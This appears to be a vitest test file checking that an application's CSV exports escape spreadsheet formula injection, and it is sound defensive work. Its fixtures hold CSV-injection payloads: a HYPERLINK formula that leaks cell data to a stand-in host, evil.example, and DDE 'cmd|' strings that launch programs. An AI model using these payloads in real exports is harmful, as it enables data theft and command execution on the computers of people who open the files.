import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type TestAgent from 'supertest/lib/agent';
import { createTestApp } from '../../support/app';
import type { TestApp } from '../../support/app';
import { createContent, createGroup } from '../../support/contents';
import {
  cardToken,
  confirmOrder,
  createPlan,
  openOrder,
  sakuraReader,
} from '../subscriptions/support';

/** The prefixes a spreadsheet evaluates (OWASP, CSV injection), each in a realistic payload. */
const formulas = {
  equals: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3+cmd|x',
  at: '@SUM(1+1)*cmd|x',
  tab: '\t=1+1',
  cr: '\r=1+1',
};

let t: TestApp;
let admin: TestAgent;

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.login('sakura');
  const sakura = t.fixtures.sakura.id;
  // Readers' own words (names, groups) and admins' (titles, plans) in every export.
  // Group names take letters, digits, spaces and hyphens: a leading hyphen is still a formula.
  const group = await admin
    .post('/api/admin/user-groups')
    .send({ name: '-1 cmd', maxUsers: 10 })
    .expect(201);
  for (const [key, fullName] of Object.entries(formulas)) {
    await admin
      .post('/api/admin/users')
      .send({
        email: `${key}@example.test`,
        password: 'Reader-pass1',
        fullName,
        userGroupId: group.body.id,
      })
      .expect(201);
  }
  const contentGroup = await createGroup(t, sakura, { refCode: 'lit' });
  await createContent(t, sakura, {
    title: formulas.equals,
    author: formulas.minus,
    keywords: formulas.plus,
    description: formulas.tab,
    param1: formulas.cr,
    groupIds: [contentGroup.id],
  });
  const plan = await createPlan(t, { name: formulas.plus });
  const reader = await sakuraReader(t);
  const orderId = await openOrder(reader, plan.id);
  await confirmOrder(reader, orderId, { token: await cardToken(t) }).expect(200);
});
afterAll(() => t.destroy());

const exports = [
  ['readers', '/api/admin/users/export'],
  ['payments', '/api/admin/transactions/export'],
  ['contents (console)', '/api/admin/contents/export'],
  ['contents (spec path)', '/api/v1/content/export-csv?path=sakura'],
] as const;

/** Every cell as a spreadsheet opening the file reads it. */
async function cellsOf(url: string): Promise<string[]> {
  const res = await admin.get(url).buffer(true).expect(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  const rows = parse(res.text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
  return rows.flat();
}

describe('CSV exports write no cell a spreadsheet would evaluate', () => {
  it.each(exports)('%s', async (_name, url) => {
    const cells = await cellsOf(url);
    const seeded = cells.filter((cell) => Object.values(formulas).some((f) => cell.includes(f)));
    // The seeded text is there (the test reaches the export), each kept whole behind an apostrophe.
    expect(seeded.length).toBeGreaterThan(0);
    for (const cell of seeded) expect(cell, JSON.stringify(cell)).toMatch(/^'/);
    // A number is a value, not a formula: -1100 may stand as it is.
    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
    expect(live).toEqual([]);
  });
});
